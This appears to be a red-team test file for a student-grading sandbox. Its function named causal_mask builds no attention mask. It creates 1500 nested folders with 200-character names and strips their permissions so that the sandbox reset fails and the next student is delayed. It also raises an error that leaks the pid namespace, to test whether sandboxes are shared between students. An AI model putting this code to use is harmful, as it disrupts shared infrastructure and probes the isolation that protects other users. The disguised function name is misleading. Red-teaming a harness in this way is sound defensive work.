# Issue 20's red team, round 4 (repro 5): folders nested 1500 deep (an inode each, well under the
# /tmp cap) made the sandbox's reset raise RecursionError (os.walk, shutil.rmtree): the sandbox was
# discarded and the next student waited for a new one. Here the names are long too, so the
# deepest path (300 KB) is far past PATH_MAX, and the deepest and the top folders are unreadable
# or unwritable. The pid namespace is reported, to tell whether the next student is graded in the
# same (reset) sandbox.
import os

import torch

NAME = "d" * 200


def causal_mask(seq_len, device=None):
    depth = 1500
    if not os.path.isdir(NAME):  # (once: each call is a new process, the folders stay)
        here, depth = os.getcwd(), 0
        try:
            while depth < 1500:
                os.mkdir(NAME)
                os.chdir(NAME)
                depth += 1
            os.chmod(".", 0)
        finally:
            os.chdir(here)
        os.chmod(NAME, 0o500)
    raise RuntimeError(f"ns={os.readlink('/proc/self/ns/pid')} depth={depth} ;")


_ = torch
